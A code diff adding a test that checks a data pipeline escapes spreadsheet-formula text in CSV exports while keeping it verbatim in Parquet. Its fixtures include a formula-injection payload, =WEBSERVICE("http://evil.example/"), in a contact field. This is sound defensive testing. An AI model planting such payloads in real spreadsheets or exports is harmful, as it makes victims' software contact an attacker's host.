@@ -273,3 +273,26 @@ def test_lowered_limit_in_raw_campaign_toml_rejects_file(setting, value, tmp_pat
     errors = _file_level_errors(t, VALID)
     assert len(errors) == 1 and "上限" in errors["message"].iloc[0]
     assert (t.rows["state"] != "accepted").all()
+
+
+def test_formula_text_read_as_text_and_never_written_evaluable(tmp_path, monkeypatch, capsys):
+    import csv
+
+    from analysis import safety
+
+    case = corpus.CASES_BY_NAME["formula_text"]
+    t = _run_case(case, tmp_path, monkeypatch, capsys)
+    rows = t.rows[t.rows["file"] == case.path].set_index("row")
+    # Rows 5 and 6 are activities of the roster's unions; row 7's union "=1+2" is unknown.
+    assert rows["state"].to_dict() == {"5": "accepted", "6": "accepted", "7": "rejected"}
+    assert rows.loc["5", "form"] == "'" + corpus.FORMULA_LINK  # escaped in the CSV …
+    assert rows.loc["6", "form"] == "'-2+3"
+    ledger = pd.read_parquet(tmp_path / "out" / "rows.parquet")
+    ledger = ledger[ledger["file"] == case.path].set_index("row")
+    assert ledger.loc[5, "form"] == corpus.FORMULA_LINK  # … as typed in the Parquet table
+    subs = t.submissions.set_index("file").loc[case.path]
+    assert (subs["contact"], subs["phone"]) == ('\'=WEBSERVICE("http://evil.example/")', "'-1+1")
+    assert "'=1+2" in set(t.issues["value"])
+    for path in (tmp_path / "out").glob("*.csv"):
+        with path.open(encoding="utf-8-sig", newline="") as fh:
+            assert not [v for r in csv.reader(fh) for v in r if safety.is_evaluable(v)], path
